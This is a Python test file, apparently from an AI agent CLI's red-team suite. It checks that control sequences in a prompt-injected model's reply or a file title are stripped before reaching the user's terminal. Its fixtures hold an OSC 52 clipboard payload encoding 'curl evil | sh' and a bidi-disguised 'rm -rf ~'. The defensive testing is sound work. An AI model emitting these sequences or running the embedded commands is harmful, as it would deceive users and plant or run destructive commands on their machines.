"""Red team: what a model, a tool or a file writes cannot take over the user's terminal.

A reply, a tool's result or a code cell's print is text from someone else: escape sequences in
it would, written as they are, put a command in the clipboard (OSC 52), hide a line, rewrite
the lines above it or draw a fake prompt. ``tce`` runs here as the user runs it, in a real
pseudo-terminal, with the project's local model server playing the prompt-injected model;
the test reads what the terminal received. Written to a pipe or a file the text is data and
stays exact; the message file keeps every character either way.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from jupyter_percent_agent.testing.environment import tce_on_terminal
from jupyter_percent_agent.testing.openai_server import OpenAIServer

BIN = Path(sys.executable).parent
TIMEOUT = 60

# OSC 52 (set the clipboard), erase the line and go back to its start, conceal what follows,
# the one-byte CSI (C1), a backspace run and a bell
HOSTILE = (
    "Done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\rALL CLEAR\x1b[8mhidden"
    "\u009b31m red\x08\x08\x08 end\x07"
)
CONTROLS = ("\x1b", "\u009b", "\x08", "\x07", "\r")


def in_terminal(*args: str, cwd: Path, env: dict[str, str]) -> tuple[int, str]:
    """Run ``tce ARGS`` with stdout and stderr on a pseudo-terminal: exit code, what it got."""
    code, shown, _ = tce_on_terminal(*args, cwd=cwd, env=env, stdin_terminal=False,
                                     timeout=TIMEOUT)
    return code, shown


def test_a_models_reply_reaches_the_terminal_without_its_control_sequences(
    tmp_path: Path, openai_server: OpenAIServer, env: dict[str, str]
) -> None:
    openai_server.script(HOSTILE)
    code, shown = in_terminal("chat", "chat", "-m", "Summarise the page.", cwd=tmp_path, env=env)
    assert code == 0, shown
    assert not [c for c in CONTROLS if c in shown], repr(shown)
    for word in ("Done.", "ALL CLEAR", "hidden", "red", "end"):  # no text lost
        assert word in shown
    # the file keeps the reply exactly as the model wrote it
    assert "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" in (tmp_path / "chat.msg.md").read_text()


def test_a_reply_cannot_reorder_what_the_terminal_shows_with_bidirectional_controls(
    tmp_path: Path, openai_server: OpenAIServer, env: dict[str, str]
) -> None:
    # Trojan Source: an override shows "rm -rf ~" as something else; an isolate hides order
    openai_server.script("Run: echo ok \u202e~ fr- mr\u202c and \u2066done\u2069.")
    code, shown = in_terminal("chat", "chat", "-m", "What should I run?", cwd=tmp_path, env=env)
    assert code == 0, shown
    assert not [c for c in "\u202e\u202c\u2066\u2069" if c in shown], repr(shown)
    assert "<U+202E>~ fr- mr<U+202C>" in shown and "<U+2066>done<U+2069>" in shown
    assert "\u202e" in (tmp_path / "chat.msg.md").read_text()  # the file keeps it exactly


def test_a_received_files_titles_reach_the_terminal_without_their_control_sequences(
    tmp_path: Path, env: dict[str, str]
) -> None:
    title = HOSTILE.replace("\r", "")  # a title is one line
    (tmp_path / "mail.msg.md").write_text(
        f"# %% {title}[^c1]\n[^c1]: [markdown]\n\nPlease review.\n", encoding="utf-8"
    )
    code, shown = in_terminal("list", "mail.msg.md", cwd=tmp_path, env=env)
    assert code == 0, shown
    assert not [c for c in CONTROLS if c in shown], repr(shown)
    assert "ALL CLEAR" in shown and "hidden" in shown


def test_a_pipe_gets_the_reply_exactly(
    tmp_path: Path, openai_server: OpenAIServer, env: dict[str, str]
) -> None:
    openai_server.script(HOSTILE)
    done = subprocess.run(
        [str(BIN / "tce"), "chat", "chat", "-m", "Summarise the page."],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
    )
    assert done.returncode == 0, done.stderr
    assert HOSTILE.replace("\r", "\n") in done.stdout
